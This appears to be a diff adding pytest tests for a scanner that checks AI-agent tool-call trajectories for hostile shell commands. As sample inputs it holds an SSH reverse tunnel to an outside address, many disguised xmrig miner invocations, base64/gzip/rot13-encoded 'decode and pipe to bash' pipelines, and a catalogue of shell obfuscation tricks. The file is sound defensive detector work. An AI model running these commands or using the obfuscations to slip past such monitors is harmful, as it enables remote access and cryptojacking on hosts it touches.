@@ -1,0 +1,148 @@
+"""Disguises are seen through, findings point at the encoded original, and all of it is bounded."""
+import base64
+import gzip
+import time
+from pathlib import Path
+
+import pytest
+
+from safefilter import Scanner
+from safefilter.normalize import Limits, derive, normalize_text
+from safefilter.types import Segment
+
+from conftest import bash, call, rule_ids, traj
+
+MINI = str(Path(__file__).parent / "data" / "mini_pack.yaml")
+REVERSE = "ssh -fNR 9000:localhost:22 u@203.0.113.9"
+
+
+@pytest.fixture(scope="module")
+def mini() -> Scanner:
+    return Scanner.from_rules([MINI])
+
+
+def derived_texts(text: str, kind: str = "shell", limits: Limits = Limits()) -> list[str]:
+    return [s.text for s in derive(Segment(kind, text, 2, "f", start=0, end=len(text)), limits)]
+
+
+@pytest.mark.parametrize("disguised", [
+    "x\"m\"r'i'g --donate-level 1",
+    "x\\mr\\ig -o pool",
+    "xm\\\nrig -o pool",
+    "a=xm; b=rig; $a$b -o pool",
+    "export A=xmr B=ig; ${A}${B}",
+    "$'\\x78\\x6d\\x72\\x69\\x67' -o pool",
+    "printf '\\170\\155\\162\\151\\147'",
+    "$(echo xmrig) -o pool",
+    "sh -c 'x''mrig -o pool'",
+    "eval \"xm\"\"rig\"",
+    "curl http://h/%78%6d%72%69%67",
+])
+def test_normalized_view_folds_shell_disguises(disguised):
+    assert any("xmrig" in t for t in derived_texts(disguised)), derived_texts(disguised)
+
+
+def test_python_string_building_is_folded():
+    code = "import os\nh = 'xm'\nt = 'rig'\nos.system(h + t)\nos.system(chr(120)+chr(109)+'rig')"
+    views = derived_texts(code, "code")
+    assert sum("xmrig" in v for v in views) >= 1
+
+
+@pytest.mark.parametrize("encode, how", [
+    (lambda s: base64.b64encode(s.encode()).decode(), "base64"),
+    (lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="), "base64"),
+    (lambda s: s.encode().hex(), "hex"),
+    (lambda s: base64.b64encode(gzip.compress(s.encode())).decode(), "base64"),
+])
+def test_encoded_payloads_are_decoded(encode, how):
+    payload = encode(REVERSE)
+    segs = derive(Segment("shell", f"echo {payload} | base64 -d | bash", 2, "f", start=0, end=99))
+    hit = next(s for s in segs if REVERSE in s.text)
+    assert hit.decoded_from.endswith(how)
+
+
+def test_rot13_and_reversed_strings():
+    import codecs
+    assert any("xmrig" in t for t in derived_texts(f"echo '{codecs.encode('xmrig -o pool', 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"))
+    assert any("xmrig" in t for t in derived_texts("echo 'loop o- girmx' | rev | sh"))
+
+
+def test_decoding_recurses_through_layers():
+    inner = base64.b64encode(REVERSE.encode()).decode()
+    outer = base64.b64encode(f"echo {inner} | base64 -d | sh".encode()).decode()
+    assert any(REVERSE in t for t in derived_texts(f"echo {outer} | base64 -d | sh"))
+
+
+def test_finding_in_decoded_text_points_at_the_encoded_original(mini):
+    payload = base64.b64encode(REVERSE.encode()).decode()
+    command = f"cd /srv && echo {payload} | base64 -d | bash"
+    verdict = mini.scan(traj(bash(command)))
+    finding = next(f for f in verdict.findings if f.rule_id == "mini-ssh-reverse")
+    assert finding.decoded_from == "base64"
+    assert command[finding.start:finding.end] == payload
+    assert REVERSE in finding.evidence
+    assert finding.message_index == 2 and finding.tool_call_id == "c1"
+    assert finding.field == "tool_calls.0.function.arguments.command"
+
+
+def test_plain_finding_span_is_the_matched_line(mini):
+    command = "cd /srv\n" + REVERSE + "\necho done"
+    finding = mini.scan(traj(bash(command))).findings[0]
+    assert finding.decoded_from is None
+    assert command[finding.start:finding.end] == REVERSE == finding.evidence
+
+
+def test_script_written_then_run_is_scanned_as_what_runs(mini):
+    write = call("write_file", {"path": "/tmp/setup.sh", "content": "#!/bin/sh\nmi'n'erd -a sha256d\n"}, "w")
+    written_only = traj(write, {"role": "tool", "tool_call_id": "w", "content": "written"}, bash("ls /tmp", "r"))
+    assert not mini.scan(written_only).unsafe  # a shell-only rule does not read file content...
+    record = traj(write, {"role": "tool", "tool_call_id": "w", "content": "written"},
+                  bash("chmod +x /tmp/setup.sh && /tmp/setup.sh", "r"))
+    verdict = mini.scan(record)  # ...but does read the script once it runs
+    finding = next(f for f in verdict.findings if f.rule_id == "mini-shell-only")
+    assert finding.decoded_from.startswith("script:/tmp/setup.sh")
+    assert finding.message_index == 2 and finding.field.endswith("arguments.content")
+
+
+def test_base64_of_plain_data_stays_clean(mini):
+    blob = base64.b64encode(bytes(range(256)) * 4).decode()
+    verdict = mini.scan(traj(bash(f"echo {blob} | base64 -d > fixture.bin && sha256sum fixture.bin")))
+    assert not verdict.unsafe
+    assert not [t for t in derived_texts(f"echo {blob} | base64 -d > f") if t != normalize_text(blob, "shell")]
+
+
+def test_depth_and_count_are_bounded():
+    text = REVERSE
+    for _ in range(8):
+        text = "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | sh"
+    shallow = derived_texts(text, limits=Limits(max_depth=2))
+    assert not any(REVERSE in t for t in shallow)
+    many = " ".join(base64.b64encode(f"echo number {i} and more".encode()).decode() for i in range(500))
+    assert len(derived_texts(many, limits=Limits(max_derived=10))) <= 10
+
+
+def test_adversarial_text_stays_linear():
+    """Near-matches for every deobfuscation step; a backtracking pattern would take minutes."""
+    nasty = ("a=" + "'" * 5000 + "$" * 5000 + "\\" * 5000 + "%41" * 3000 + "A" * 20000 + "=" * 10) * 2
+    started = time.perf_counter()
+    derived_texts(nasty)
+    small = time.perf_counter() - started
+    started = time.perf_counter()
+    derived_texts(nasty * 10)
+    large = time.perf_counter() - started
+    # ten times the input may cost about ten times the time, not a hundred: compare, don't time
+    assert large < 40 * max(small, 1e-3)
+
+
+def test_nothing_is_executed(tmp_path, mini):
+    marker = tmp_path / "pwned"
+    payload = base64.b64encode(f"touch {marker}".encode()).decode()
+    mini.scan(traj(bash(f"echo {payload} | base64 -d | sh"), call("python", {"code": f"open('{marker}','w')"})))
+    assert not marker.exists()
+
+
+def test_requested_task_marks_findings(mini):
+    verdict = mini.scan(traj(bash(REVERSE), task="Please set up an ssh tunnel to the staging database"))
+    assert not verdict.unsafe
+    assert [f.requested for f in verdict.findings] == [True]
+    assert rule_ids(mini.scan(traj(bash(REVERSE)))) == {"mini-ssh-reverse"}
